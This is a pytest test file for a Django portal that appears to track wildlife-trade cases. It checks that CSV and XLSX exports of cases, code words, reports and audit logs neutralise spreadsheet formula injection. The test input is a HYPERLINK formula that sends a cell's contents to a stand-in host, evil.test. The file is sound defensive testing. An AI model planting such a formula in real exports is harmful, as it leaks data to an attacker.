"""Formula injection: no CSV or XLSX the portal writes lets a record's text run as a spreadsheet formula.

A CSV cell starting with = + - @ (tab, CR) gets a leading apostrophe; an XLSX cell holding such text is a text
cell (data type "s", quote prefix set), never a formula. One class per export path.
"""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from portal.access.models import TLP, Distribution
from portal.spreadsheets import safe_cell, xlsx_row
from tests.factories import CaseFactory, CodeWordFactory, PlatformFactory, client_for

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?"&A3,"Open case")'


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_cell(cells, text):
    matching = [cell for cell in cells if cell.value == text]
    assert matching, f"{text!r} not in the workbook as typed"
    for cell in matching:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.data_type)


class TestHelper:
    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_text_that_starts_a_formula_gets_an_apostrophe(self, start):
        assert safe_cell(start + "1+1") == "'" + start + "1+1"

    def test_plain_text_and_numbers_are_left_alone(self):
        assert safe_cell("Ivory") == "Ivory"
        assert safe_cell(-5) == -5 and safe_cell(None) is None

    @pytest.mark.parametrize("write_only", [True, False])
    def test_xlsx_text_is_a_text_cell(self, write_only):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("s")
        sheet.append(xlsx_row(sheet, [FORMULA, "-1", "plain", 3]))
        out = io.BytesIO()
        book.save(out)
        cells = list(load_workbook(out)["s"].iter_rows())[0]
        assert [(c.value, c.data_type) for c in cells] == [(FORMULA, "s"), ("-1", "s"), ("plain", "s"), (3, "n")]
        assert cells[0].quotePrefix and not cells[2].quotePrefix


class TestCaseExports:
    @pytest.fixture
    def viewer(self, cast):
        CaseFactory(owner_org=cast.owner_org, marker=FORMULA)
        return client_for(cast.owner_reader)

    def test_csv(self, viewer):
        rows = csv_rows(viewer.get(reverse("cases:export-csv")))
        title = rows[1].index("title")
        assert [row[title] for row in rows[2:]] == ["'" + FORMULA]

    def test_xlsx(self, viewer):
        assert_text_cell(xlsx_cells(viewer.get(reverse("cases:export-xlsx"))), FORMULA)


class TestLexiconExports:
    @pytest.fixture
    def viewer(self, cast):
        CodeWordFactory(owner_org=cast.owner_org, marker=FORMULA, term="@ivory", distribution=Distribution.COMMUNITY)
        return client_for(cast.owner_reader)

    def test_lexicon_csv(self, viewer):
        rows = csv_rows(viewer.get(reverse("lexicon:export-csv")))
        header = rows[1]
        (row,) = rows[2:]
        assert row[header.index("term")] == "'@ivory"
        assert row[header.index("meaning")] == "'" + FORMULA

    def test_scan_results_csv(self, viewer):
        response = viewer.get(reverse("lexicon:scan"), {"text": "=1+1 fresh @ivory for sale", "format": "csv"})
        rows = csv_rows(response)
        header = rows[1]
        (row,) = rows[2:]
        assert row[header.index("code_words")] == "'@ivory"
        assert row[header.index("meanings")] == "'" + FORMULA
        assert row[header.index("text")] == "'=1+1 fresh @ivory for sale"


class TestReportExports:
    @pytest.fixture
    def viewer(self, cast):
        from tests.factories import CitesPartyFactory, SeizureFactory

        CitesPartyFactory()
        SeizureFactory(owner_org=cast.owner_org, marker="Mombasa port", distribution=Distribution.COMMUNITY,
                       tlp=TLP.GREEN, date=datetime.date(2026, 5, 1), transport_mode="vessel",
                       concealment=FORMULA)  # fmt: skip
        return client_for(cast.owner_reader)

    def test_trade_report_csv(self, viewer):
        rows = csv_rows(viewer.get(reverse("reports:trade-report"), {"party": "KE", "format": "csv"}))
        concealment = rows[1].index("Method of concealment")
        assert rows[2][concealment] == "'" + FORMULA

    def test_trade_report_xlsx(self, viewer):
        response = viewer.get(reverse("reports:trade-report"), {"party": "KE", "format": "xlsx"})
        assert_text_cell(xlsx_cells(response), FORMULA)

    def test_statistics_csv(self, cast):
        from tests.factories import AdvertFactory

        AdvertFactory(owner_org=cast.owner_org, marker="Offer", platform=PlatformFactory(name=FORMULA))
        client = client_for(cast.owner_reader)
        rows = csv_rows(client.get(reverse("reports:statistics-csv", args=["adverts-platform"])))
        assert rows[1:] == [["'" + FORMULA, "1"]]  # the count stays a number


class TestAuditExport:
    def test_csv(self, cast):
        from portal.audit.services import audit
        from portal.orgs.models import Role
        from tests.factories import member

        audit(actor=cast.owner_editor, action="case.view", detail={"path": FORMULA})
        cast.owner_org.name = FORMULA
        cast.owner_org.save()
        client = client_for(member(cast.owner_org, role=Role.ADMIN, email="admin@owner.test"))
        rows = csv_rows(client.get(reverse("audit:export")))
        assert [row[2] for row in rows[1:] if row[3] == "case.view"] == ["'" + FORMULA]


class TestImportTemplates:
    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_the_templates_are_written_by_the_same_helper(self, cast, fmt):
        client = client_for(cast.owner_editor)
        response = client.get(reverse("cases:import-template", args=[fmt]))
        assert response.status_code == 200
        if fmt == "xlsx":
            assert all(cell.data_type != "f" for cell in xlsx_cells(response))
